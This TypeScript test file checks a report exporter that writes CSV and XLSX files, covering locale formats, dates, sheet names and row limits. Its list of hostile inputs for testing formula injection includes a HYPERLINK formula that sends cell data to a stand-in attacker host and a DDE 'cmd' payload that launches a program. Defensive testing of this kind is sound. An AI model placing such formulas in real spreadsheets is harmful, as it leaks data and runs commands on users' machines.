import { parse } from 'csv-parse/sync'
import { expect } from 'chai'
import { csvRows } from '../../reports/sheets/csv.ts'
import type { Sheet, SheetRow } from '../../reports/sheets/sheet.ts'
import { mostXlsxRows, xlsxRows } from '../../reports/sheets/xlsx.ts'
import { bytesOf, sheetOf, unzipped } from './support/files.ts'

const sheet = (change: Partial<Sheet> = {}): Sheet => ({
  name: 'Calls',
  columns: [
    { title: 'Name', kind: 'text' },
    { title: 'Count', kind: 'number' },
    { title: 'Day', kind: 'day' },
    { title: 'At', kind: 'time' },
    { title: 'Sum', kind: 'money' }
  ],
  locale: 'ru',
  timeZone: 'Europe/Moscow',
  ...change
})

const naughty = [
  '=1+1',
  '+79161112233',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '"quoted"',
  'a;b,c',
  'two\r\nlines',
  ' spaces ',
  '<script>alert(1)</script> & "co"',
  '_x0041_ stays',
  'bell \u0007 and half \ud800 a pair',
  '😀 Ёлка',
  ']]>',
  "'already"
]

describe('Tables as files', () => {
  it('writes CSV in Russian with a mark, semicolons and decimal commas', async () => {
    const rows: SheetRow[] = [['Яндекс', 1.5, '2026-11-20', new Date('2026-11-20T10:00:00.5Z'), -1234.5]]
    const text = (await bytesOf(csvRows(sheet(), rows))).toString()
    expect(text).to.equal(
      '\uFEFFName;Count;Day;At;Sum\r\nЯндекс;1,5;2026-11-20;2026-11-20 13:00:00;-1234,5\r\n'
    )
  })

  it('writes CSV in English with commas and points, and nothing where nothing is', async () => {
    const rows: SheetRow[] = [
      [null, 1e21, null, new Date(Number.NaN), 0],
      ['', NaN, 'no day', null, 1 / 3]
    ]
    const text = (await bytesOf(csvRows(sheet({ locale: 'en' }), rows))).toString()
    expect(text.split('\r\n').slice(1)).to.deep.equal([',1000000000000000000000,,,0', ',,no day,,0.33', ''])
  })

  it('lets no text of a CSV begin like a formula, and keeps the rest to the letter', async () => {
    for (const locale of ['ru', 'en'] as const) {
      const file = await bytesOf(
        csvRows(
          sheet({ locale }),
          naughty.map((text): SheetRow => [text, -1, null, null, null])
        )
      )
      const read: string[][] = parse(file, {
        bom: true,
        delimiter: locale === 'ru' ? ';' : ',',
        relax_column_count: false
      })
      const texts = read.slice(1).map(([text = '']) => text)
      expect(texts.filter((text) => /^[=+\-@\t\r\n＝]/.test(text))).to.deep.equal([])
      const wanted = naughty.map((text) =>
        Buffer.from(/^[=+\-@\t\r\n＝]/.test(text) ? `'${text}` : text).toString()
      )
      expect(texts).to.deep.equal(wanted)
      // Numbers are numbers, also negative ones.
      expect(read.slice(1).every(([, number]) => number === '-1')).to.equal(true)
    }
  })

  it('writes XLSX with real numbers and dates under a frozen heading', async () => {
    const rows: SheetRow[] = [['Яндекс', 1.5, '2026-11-20', new Date('2026-11-20T09:00:00Z'), 10.004]]
    const file = await bytesOf(xlsxRows(sheet(), rows))
    const [heading, row] = sheetOf(file)
    expect(heading?.map(({ text }) => text)).to.deep.equal(['Name', 'Count', 'Day', 'At', 'Sum'])
    expect(row?.[0]?.text).to.equal('Яндекс')
    // Days since 30 December 1899; noon in Moscow is half a day.
    expect(row?.slice(1).map(({ number }) => number)).to.deep.equal([1.5, 46346, 46346.5, 10])
    const xml = unzipped(file).get('xl/worksheets/sheet1.xml') ?? ''
    expect(xml).to.contain('state="frozen"').and.contain('<autoFilter ref="A1:E2"/>').and.contain('<cols>')
  })

  it('has no formula in an XLSX and marks what looks like one as text', async () => {
    const file = await bytesOf(
      xlsxRows(
        sheet(),
        naughty.map((text): SheetRow => [text, -1, null, null, null])
      )
    )
    const parts = unzipped(file)
    expect(parts.get('xl/worksheets/sheet1.xml')).not.to.match(/<f[ >]/)
    const rows = sheetOf(file).slice(1)
    rows.forEach((row, i) => {
      const text = naughty[i] ?? ''
      const wanted = text.replace('\u0007', '\uFFFD').replace('\ud800', '\uFFFD')
      expect(row[0]?.text).to.equal(wanted)
      expect(row[1]?.number).to.equal(-1)
      const style = [...(parts.get('xl/styles.xml') ?? '').matchAll(/<xf [^>]*?\/>|<xf\/>/g)][
        (row[0]?.style ?? 0) + 1
      ]?.[0]
      if (/^[=+\-@\t\r\n＝]/.test(text)) expect(style, text).to.contain('quotePrefix="1"')
    })
  })

  it('gives a sheet a name that table programs take', async () => {
    const file = await bytesOf(xlsxRows(sheet({ name: "'[Отчёт]: */ и ещё очень длинное название" }), []))
    const name = /sheet name="([^"]*)"/.exec(unzipped(file).get('xl/workbook.xml') ?? '')?.[1] ?? ''
    expect(name).to.match(/^[^[\]:*?/\\]{1,31}$/)
  })

  it('fails clearly, and in bounded memory, when a sheet would be too long', async function () {
    this.timeout(120_000)
    const before = process.memoryUsage().rss
    function* endless(): Generator<SheetRow> {
      for (let i = 0; i <= mostXlsxRows; i += 1) yield ['row', i]
    }
    let peak = 0
    let caught: unknown
    try {
      const narrow = sheet({ columns: sheet().columns.slice(0, 2) })
      for await (const _ of xlsxRows(narrow, endless())) peak = Math.max(peak, process.memoryUsage().rss)
    } catch (error) {
      caught = error
    }
    expect(caught).to.be.an('error').with.property('name', 'TooManyRows')
    expect((peak - before) / 1024 ** 2, 'MB').to.be.lessThan(150)
  })

  it('passes the failure of its rows on', async () => {
    // eslint-disable-next-line @typescript-eslint/require-await -- rows that come from a database are asynchronous
    async function* failing(): AsyncGenerator<SheetRow> {
      yield ['one']
      throw new Error('the database went away')
    }
    for (const write of [csvRows, xlsxRows]) {
      let caught: unknown
      await bytesOf(write(sheet(), failing())).catch((error: unknown) => (caught = error))
      expect(caught).to.be.an('error').with.property('message', 'the database went away')
    }
  })
})
